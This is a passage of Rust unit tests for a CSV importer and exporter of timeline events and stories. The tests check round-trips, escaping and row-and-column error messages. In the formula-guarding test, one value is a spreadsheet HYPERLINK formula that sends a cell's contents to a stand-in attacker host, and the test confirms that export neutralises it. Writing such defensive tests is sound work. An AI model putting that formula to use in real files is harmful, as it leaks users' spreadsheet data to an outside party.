            .collect(),
        window,
        view,
    });
}

#[cfg(test)]
mod tests {

    /// The built-in events as CSV, and the same CSV with `extra` lines appended to the first
    /// event's `sources` cell; and how many records that cell then holds.
    fn with_extra_source_lines(extra: &str) -> (String, String, usize) {
        let text = export_csv(&crate::embedded_dataset().expect("the built-in events are valid"));
        let mut rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect();
        let headers = csv::Reader::from_reader(text.as_bytes()).headers().unwrap().clone();
        let sources = headers.iter().position(|name| name == "sources").unwrap();
        let mut cells: Vec<String> = rows[0].iter().map(str::to_owned).collect();
        cells[sources] = format!("{}\n{extra}", cells[sources]);
        let record_count = cells[sources].split('\n').count();
        rows[0] = csv::StringRecord::from(cells);
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(&headers).unwrap();
        for row in &rows {
            writer.write_record(row).unwrap();
        }
        let edited = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        (text, edited, record_count)
    }

    #[test]
    fn an_unknown_key_in_a_record_is_a_located_error() {
        // A record of only unknown keys (found by the csv_import fuzz target) and a misspelt key.
        let (_, edited, record_count) = with_extra_source_lines("fi?le=a.txt\ntitle=x | publsher=y");
        let errors: Vec<String> = import_csv(&edited)
            .unwrap_err()
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(errors.len(), 2, "{errors:?}");
        assert!(
            errors[0].starts_with(&format!(
                "row 2, column sources: record {}: unknown key \"fi?le\"; expected one of: file, title,",
                record_count - 1
            )),
            "{errors:?}"
        );
        assert!(
            errors[1].contains(&format!("record {record_count}: unknown key \"publsher\"")),
            "{errors:?}"
        );
    }

    #[test]
    fn a_record_without_values_is_an_empty_line_so_the_round_trip_holds() {
        let (text, edited, _) = with_extra_source_lines(" | \ntitle= | url=");
        let first = import_csv(&edited).unwrap();
        let original = import_csv(&text).unwrap();
        assert_eq!(first.events[0].sources, original.events[0].sources);
        assert_eq!(import_csv(&export_csv(&first)).unwrap().events, first.events);
    }
    use super::*;
    use crate::embedded_dataset;

    #[test]
    fn the_embedded_dataset_round_trips_through_csv() {
        let dataset = embedded_dataset().unwrap();
        let back = import_csv(&export_csv(&dataset)).unwrap();
        assert_eq!(back.events, dataset.events);
    }

    fn sample_stories() -> Vec<Story> {
        let step = |events: &[&str]| StoryStep {
            narrative: LocalizedText::new("On *day one*, [a visit](a).\n\nThen =more.", "第一天", ""),
            events: events.iter().map(|id| id.to_string()).collect(),
            filter: None,
            quotes: vec!["-first passage".into(), "second, with \"quotes\"".into()],
            window: None,
            view: None,
        };
        let mut second = step(&["b"]);
        // A filter in the link format, with the characters a CSV cell must quote.
        second.filter = Some("cat=forum,conference&from=2023-05-01&q=Taihu \"Bay\"".into());
        second.window = Some(StepWindow {
            start: NaiveDate::from_ymd_opt(2023, 5, 1).unwrap(),
            end: NaiveDate::from_ymd_opt(2023, 5, 31).unwrap(),
        });
        second.view = Some(StepView {
            lat: 31.4912,
            lon: -120.3119,
            zoom: 6.5,
        });
        vec![
            Story {
                id: "one".into(),
                title: LocalizedText::new("One", "一", "Un"),
                summary: LocalizedText::new("Two steps", "", ""),
                steps: vec![step(&["a", "b"]), second],
            },
            Story {
                id: "two".into(),
                title: LocalizedText::new("Two", "", ""),
                summary: LocalizedText::default(),
                steps: vec![step(&["c"])],
            },
        ]
    }

    #[test]
    fn stories_round_trip_through_their_csv() {
        let stories = sample_stories();
        let text = export_stories_csv(&stories);
        assert!(text.starts_with("story,title_en,"), "{text}");
        assert!(text.contains("'-first"), "formulas are guarded: {text}");
        assert_eq!(import_stories_csv(&text).unwrap(), stories);
        assert_eq!(import_stories_csv(&export_stories_csv(&[])).unwrap(), Vec::new());
    }

    #[test]
    fn story_rows_out_of_order_name_row_and_column() {
        let header = STORY_COLUMNS.join(",");
        let csv = format!(
            "{header}\none,One,,,,,,1,x,,,a,,,,,,,\none,Other,,,,,,3,y,,,a,,,2023-13-01,2023-05-01,1,,\ntwo,Two,,,,,,1,z,,,b,,,,,,,\none,,,,,,,1,w,,,a,,,,,,,\n"
        );
        let errors: Vec<String> = import_stories_csv(&csv)
            .unwrap_err()
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(
            errors,
            [
                "row 3, column title_*: differs from the story's first row; leave it empty or repeat it",
                "row 3, column step: \"3\" is not the next step; expected 2",
                "row 3, column window_start: \"2023-13-01\" is not a date; expected YYYY-MM-DD",
                "row 3, column view_lat: \"1\", \"\", \"\" is not a view; expected three numbers (view_lat, view_lon, view_zoom) or none",
                "row 5, column story: \"one\" appeared on earlier rows; keep a story's steps on consecutive rows",
            ]
        );
        // A file from before the `filter` column still reads.
        let old = "story,title_en,step,narrative_en,events\none,One,1,x,a\n";
        assert_eq!(import_stories_csv(old).unwrap()[0].steps[0].filter, None);
        let unknown = import_stories_csv("story,step,events,chapter\n").unwrap_err();
        assert_eq!(unknown[0].column.as_deref(), Some("chapter"));
    }

    #[test]
    fn errors_name_row_and_column() {
        let mut csv = COLUMNS.join(",");
        csv.push_str("\nok,T,,,,,,forum,2023-05-18,,exact,,,,,,,,file=a | language=en | quote=q,\n");
        csv.push_str("bad,T,,,,,,meeting,2023-13-01,,exact,,name.en=X | lat=north | lon=1 | country=CN | precision=city,,,,,,file=a | language=en | quote=q,\n");
        let errors: Vec<String> = import_csv(&csv).unwrap_err().iter().map(ToString::to_string).collect();
        assert_eq!(errors.len(), 3, "{errors:?}");
        assert!(
            errors[0].starts_with("row 3, column category: \"meeting\" is not a category"),
            "{}",
            errors[0]
        );
        assert_eq!(
            errors[1],
            "row 3, column start: \"2023-13-01\" is not a date; expected YYYY-MM-DD"
        );
        assert_eq!(
            errors[2],
            "row 3, column places: record 1: lat: \"north\" is not a number"
        );
    }

    #[test]
    fn unknown_and_missing_columns_are_reported_on_the_header_row() {
        let errors: Vec<String> = import_csv("id,colour\nx,red\n")
            .unwrap_err()
            .iter()
            .map(ToString::to_string)
            .collect();
        assert!(
            errors[0].starts_with("row 1, column colour: unknown column"),
            "{errors:?}"
        );
        assert!(
            errors.contains(&"row 1, column category: required column is missing".to_owned()),
            "{errors:?}"
        );
    }

    #[test]
    fn escapes_survive_bars_newlines_backslashes_and_edge_spaces() {
        for value in ["a | b", "line\nbreak", "back\\slash", " padded ", "\\|", "|", "\\", ""] {
            let line = format!("quote={}", escape(value));
            let record = Record::parse(&line).unwrap();
            assert_eq!(record.get("quote"), value, "{line}");
        }
        assert_eq!(
            Record::parse("quote=bad\\x").unwrap_err(),
            RecordProblem::UnknownEscape { escape: 'x' }
        );
        assert!(Record::parse("quote=bad\\x")
            .unwrap_err()
            .to_string()
            .contains("unknown escape \\x"));
        assert!(Record::parse("no equals sign")
            .unwrap_err()
            .to_string()
            .contains("is not key=value"));
    }

    #[test]
    fn formulas_are_exported_as_text_and_imported_back_exactly() {
        let mut dataset = crate::embedded_dataset().unwrap(); // ok: the embedded dataset is valid
        dataset.events.truncate(1);
        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        dataset.events[0].title.en = hostile.into();
        dataset.events[0].title.fr = "+33 1 23".into();
        dataset.events[0].title.zh = "''@SUM(1)".into();
        dataset.events[0].note = "-1".into();
        dataset.events[0].date_note = "\tindent".into();
        dataset.events[0].summary.fr = "'plain quote".into();
        let csv = export_csv(&dataset);
        assert!(csv.contains(",\"'=HYPERLINK("), "{csv}");
        assert!(csv.contains(",'+33 1 23,"), "{csv}");
        assert!(csv.contains(",'''@SUM(1),"), "{csv}");
        assert!(csv.contains(",'-1\r\n"), "{csv}");
        assert!(csv.contains(",\"'\tindent\",") || csv.contains(",'\tindent,"), "{csv}");
        assert!(csv.contains(",'plain quote,"), "{csv}");
        // No cell of a data row starts with a formula character.
        let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                // ok: test data
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
            }
        }
        assert_eq!(import_csv(&csv).unwrap().events, dataset.events); // ok: test data
        assert_eq!(unguard_formula("'x"), "'x");
        assert_eq!(unguard_formula("'=x"), "=x");
        assert_eq!(unguard_formula("''=x"), "'=x");
    }

    #[test]
    fn ragged_rows_are_reported_not_panicked_on() {
        let mut csv = COLUMNS.join(",");
        csv.push_str("\nonly,three,cells\n");
        let errors = import_csv(&csv).unwrap_err();
        assert_eq!(errors[0].row, Some(2));
        assert_eq!(
            errors[0].kind,
            CsvProblem::WrongCellCount {
                expected: COLUMNS.len() as u64,
                found: 3
            }
        );
        assert_eq!(
            errors[0].message,
            "the row has 3 cells; expected 20, one per column of the header row"
        );
    }
}

#[cfg(test)]
mod row_number_tests {
    use super::*;

    /// Rows are records, as a spreadsheet numbers them: a cell with line breaks before the
    /// bad row, and Windows line ends (what export writes), do not shift the row named.
    #[test]
    fn a_problem_names_the_spreadsheet_row_whatever_the_line_breaks() {
        let header = "id,title_en,category,start,precision,sources";
        let good = "a,A,forum,2024-01-02,exact,\"file=f | language=en | quote=q\nfile=g | language=en | quote=r\"";
        let bad = "b,B,picnic,2024-01-02,exact,file=f | language=en | quote=q";
        for end in ["\n", "\r\n"] {
            let text = [header, good, bad].join(end) + end;
            let errors = import_csv(&text).unwrap_err();
            assert_eq!(errors.len(), 1, "{errors:?}");
            assert_eq!(
                (errors[0].row, errors[0].column.as_deref()),
                (Some(3), Some("category"))
            );
        }
    }
}
